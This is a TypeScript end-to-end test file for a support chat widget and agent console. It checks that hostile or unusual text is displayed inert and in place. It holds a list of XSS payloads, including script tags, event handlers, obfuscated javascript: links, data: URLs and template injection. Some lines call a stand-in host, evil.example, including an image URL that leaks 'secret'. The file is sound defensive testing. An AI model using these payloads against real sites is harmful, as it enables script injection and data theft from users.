import { randomUUID } from 'node:crypto'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Locator } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { clean } from '../../src/domain/text.ts'
import { SENTINEL } from '../browser/chromium.ts'
import { naughty } from '../fuzz/naughty.ts'
import { openConsole } from './support/console.ts'
import { journey } from './support/journey.ts'
import { untilSays } from './support/read.ts'
import { ana, chief } from './support/staff.ts'
import { openWidget } from './support/widget.ts'
import { startConversation } from './support/wire.ts'

const limits = {
  BELLHOP_LIMIT_VISITOR_MESSAGES_PER_MINUTE: '1000',
  BELLHOP_LIMIT_ADDRESS_CONVERSATIONS_PER_HOUR: '1000',
}
const desk = journey({ env: limits }, [ana, chief])
const ran = `${SENTINEL}('seen')`

/** Text that a careless page would run or load; each calls the sentinel or asks another host. */
const hostile = [
  `<script>${ran}</script>`,
  `<img src=x onerror="${ran}">`,
  `<svg onload=${ran}>`,
  `<svg><script>${ran}</script></svg>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<details open ontoggle=${ran}>more</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${ran}">`,
  `"><body onload=${ran}>`,
  `<a href="javascript:${ran}">plain</a>`,
  `[link](javascript:${ran})`,
  `[entities](&#106;avascript&colon;${ran})`,
  `[split](java\tscript:${ran})`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<form action="https://evil.example/"><input name=q autofocus onfocus="${ran}"></form>`,
  `<base href="https://evil.example/">`,
  `<style>@import url(https://evil.example/a.css)</style>`,
  `<link rel=prefetch href="https://evil.example/prefetch">`,
  `![stolen](https://evil.example/?q=secret)`,
  `![stolen][ref]\n\n[ref]: https://evil.example/reference`,
  `{{constructor.constructor("${ran}")()}} \${${ran}}`,
  `<template><img src=x onerror="${ran}"></template>`,
]
const oneLine = (text: string) => text.replace(/\s+/g, ' ')

describe('Hostile text runs no script and asks no other host', () => {
  it('as a message, in the widget and in the console [S44] [S45] [S46] [S47]', async () => {
    const visitor = await desk.profile()
    const widget = await openWidget(await visitor.page(), desk.server.url)
    await widget.say('I want to talk to a human please')
    await widget.shows(/in the queue/i)
    for (const text of hostile) {
      await widget.field.fill(text)
      await widget.panel.getByRole('button', { name: 'Send' }).click()
      await widget.reads(oneLine(text).slice(0, 12))
    }

    const console = await openConsole(await (await desk.profile()).page(), desk.server.url, ana)
    await console.open('human')
    await console.shows('<template>')
    await leadNowhereHostile(console.page.getByRole('log').getByRole('link'))
    await leadNowhereHostile(widget.log.getByRole('link'))

    await console.takeOver()
    for (const text of hostile) await console.reply(text)
    await widget.reads('{{constructor.constructor')
    expect(visitor.unexpected()).toEqual([])
  })

  it('as name, page title, page address, referrer and browser name [S44] [S23]', async () => {
    for (const [at, text] of hostile.entries()) {
      const name = oneLine(text).slice(0, 120)
      const page = { url: `https://shop.example/${at}?q=${encodeURIComponent(text)}`, title: oneLine(text) }
      const headers = { 'user-agent': oneLine(text), referer: `https://evil.example/?${encodeURIComponent(text)}` }
      const customer = await startConversation(desk.server.url, { contact: { name }, page }, headers)
      await customer.askForPerson(text)
    }
    const profile = await desk.profile()
    const console = await openConsole(await profile.page(), desk.server.url, ana)
    const first = console.list.locator('.entries > li').first()
    const count = async () => Number(await first.getAttribute('aria-setsize'))
    await expect.poll(count).toBeGreaterThanOrEqual(hostile.length)
    await first.getByRole('link').click()
    // The list draws what is in view: every line comes into it.
    for (let at = 2; at <= (await count()); at++) {
      await console.page.getByRole('log').waitFor()
      await console.page.keyboard.press('j')
      await console.list.locator(`li[aria-posinset="${at}"] [aria-current]`).waitFor()
    }
    await console.page.getByRole('log').waitFor()
    expect(profile.unexpected()).toEqual([])
  })

  it('as an article, quoted in an answer and on its own page [S44] [S46] [S47]', async () => {
    const front = `---\ntitle: ${JSON.stringify(`Enamel <img src=x onerror="${ran}"> badges`)}\nlang: en\nquestions: ["How much are enamel badges?", "How are enamel badges fired?"]\n---\n\n`
    const text = `Enamel badges are fired at 800 degrees in the small kiln.\n\n${hostile.join('\n\n')}\n\n## How much enamel badges are\n\nEnamel badges cost €7 ${hostile[1]} ${hostile[17]} each.\n`
    mkdirSync(join(desk.server.kb, 'shop'), { recursive: true })
    writeFileSync(join(desk.server.kb, 'shop/enamel.md'), front + text)
    await expect.poll(async () => (await fetch(`${desk.server.url}/api/articles/public/shop/enamel`)).status).toBe(200)

    const visitor = await desk.profile()
    const page = await visitor.page()
    const widget = await openWidget(page, desk.server.url)
    await widget.say('How much are enamel badges?')
    await widget.reads('€7')
    await widget.say('How are enamel badges fired?')
    await widget.reads('800 degrees')
    await leadNowhereHostile(widget.log.getByRole('link', { name: /javascript|plain|split|entities|data/ }))

    await page.goto(`${desk.server.url}/help/shop/enamel`)
    await untilSays(page.locator('body'), '800 degrees')
    const shown = page.locator('main .text')
    await untilSays(shown, '800 degrees')
    expect(await shown.locator('script, iframe, form, base, img, style').count()).toBe(0)
    // Beside it there is what is the page's own: data that no browser runs, the search, the vote, and the chat in a root of its own.
    const foreign = 'script:not([src]):not([type="application/ld+json"]), iframe, base, img'
    expect(await page.evaluate((each) => document.querySelectorAll(each).length, foreign)).toBe(0)
    const sentTo = await page.locator('form').evaluateAll((forms) => forms.map((form) => form.getAttribute('action')))
    expect(new Set(sentTo)).toEqual(new Set(['/help', '/help/shop/enamel']))
    const addresses = await page
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
    expect(addresses.filter((address) => /^\s*(javascript|data):/i.test(address))).toEqual([])
    expect(visitor.unexpected()).toEqual([])
  })

  it('does not reorder or hide names: invisible and reversing characters are gone or isolated [S23]', async () => {
    const customer = await startConversation(desk.server.url, {
      contact: { name: 'Agent\u202Etroppus\u202C \u200B\u200BAna' },
    })
    await customer.askForPerson('spoofed label')
    const console = await openConsole(await (await desk.profile()).page(), desk.server.url, ana)
    await console.open('spoofed label')
    const isolated = console.page.locator('#talk-title bdi')
    expect(await isolated.count()).toBe(1)
  })
})

describe('Hard text is shown as it was typed', () => {
  const texts = Object.values(naughty)

  it('as a message, in the widget and in the console, but for what nobody can see [S29]', async () => {
    const widget = await openWidget(await (await desk.profile()).page(), desk.server.url)
    await widget.say('I want to talk to a human about hard text')
    await widget.shows(/in the queue/i)
    const { token, conversationId } = await widget.panel.locator('body').evaluate(() => {
      const kept = Object.entries(localStorage).map(([, value]) => String(value))
      return JSON.parse(kept.find((value) => value.includes('"token"')) ?? '{}') as Record<string, string>
    })
    for (const text of texts) {
      const sent = await fetch(`${desk.server.url}/api/conversations/${conversationId}/messages`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body: JSON.stringify({ clientMessageId: randomUUID(), text }),
      })
      expect(sent.status, text).toBeLessThan(300)
    }
    const shown = texts.map((text) => clean(text).replace(/\r\n?/g, '\n'))
    await expect
      .poll(async () => (await linesOf(widget.log.locator('.mine .body'))).slice(-texts.length))
      .toEqual(shown)

    const console = await openConsole(await (await desk.profile()).page(), desk.server.url, ana)
    await console.open('hard text')
    const bubbles = console.page.getByRole('log').locator('.bubble')
    // Agents see what was typed to the letter: each text is a line of its own, so that nothing turns what is beside it.
    await expect.poll(async () => (await linesOf(bubbles)).slice(-texts.length)).toEqual(texts)
    const isolated = bubbles.last().evaluate((bubble) => getComputedStyle(bubble).unicodeBidi)
    expect(await isolated).toMatch(/isolate|plaintext/)
  })

  it('as a name, in the console, but for what nobody can see [S23] [S29]', async () => {
    const console = await openConsole(await (await desk.profile()).page(), desk.server.url, ana)
    const names = texts.reduce<string[]>((groups, text) => {
      const joined = `${groups.pop() ?? ''} ${text}`.trim()
      groups.push(...(joined.length <= 70 ? [joined] : [joined.slice(0, -text.length - 1), text]))
      return groups
    }, [])
    for (const [at, name] of names.filter((each) => each.length <= 80).entries()) {
      const customer = await startConversation(desk.server.url, { contact: { name } })
      await customer.askForPerson(`named text ${at}.`)
      await console.open(`named text ${at}.`)
      const shown = clean(name).replace(/\s+/gu, ' ').trim()
      const title = console.page.locator('#talk-title bdi')
      await expect
        .poll(async () => (await title.textContent())?.replace(/\s+/gu, ' ').trim(), { message: name })
        .toBe(shown)
    }
  })

  it('and a word of 8,000 letters or a heap of marks pushes nothing out of its place [S28]', async () => {
    const word = 'w'.repeat(7_900)
    const zalgo = `Z${'\u0351\u036b\u0343\u0332'.repeat(100)}algo`
    const widget = await openWidget(await (await desk.profile()).page(), desk.server.url)
    await widget.say('I want to talk to a human about long words')
    await widget.shows(/in the queue/i)
    for (const [text, seen] of [
      [word, 'wwww'],
      [zalgo, 'algo'],
      [`https://shop.example/${word.slice(0, 1_500)}`, 'shop.example'],
    ] as const) {
      await widget.field.fill(text)
      await widget.field.press('Enter')
      await widget.reads(seen)
    }
    const console = await openConsole(await (await desk.profile()).page(), desk.server.url, ana)
    await console.open('long words')
    await expect.poll(() => console.page.getByRole('log').locator('.bubble').count()).toBeGreaterThanOrEqual(4)
    for (const log of [widget.log, console.page.getByRole('log')]) {
      const { page, wider, out } = await log.evaluate((box) => {
        const edge = box.getBoundingClientRect().right + 1
        const parts = [...box.querySelectorAll('.body, .bubble, .body *, .bubble *')]
        return {
          page: document.documentElement.scrollWidth - document.documentElement.clientWidth,
          wider: box.scrollWidth - box.clientWidth,
          out: parts
            .filter((part) => part.getBoundingClientRect().right > edge)
            .map((part) => part.outerHTML.slice(0, 80)),
        }
      })
      expect({ page, wider, out }).toEqual({ page: 0, wider: 0, out: [] })
    }
  })
})

/** What each of them says, line breaks as they were typed. */
async function linesOf(places: Locator): Promise<string[]> {
  return await places.evaluateAll((found) =>
    found.map((place) => {
      const copy = place.cloneNode(true) as Element
      for (const line of copy.querySelectorAll('br')) line.replaceWith('\n')
      return copy.textContent
    }),
  )
}

/** Checks the address of every link that is left. */
async function leadNowhereHostile(links: Locator): Promise<void> {
  const count = await links.count()
  for (let at = 0; at < count; at++) {
    const address = (await links.nth(at).getAttribute('href')) ?? ''
    expect(address).not.toMatch(/^\s*(javascript|data|vbscript):/i)
  }
}
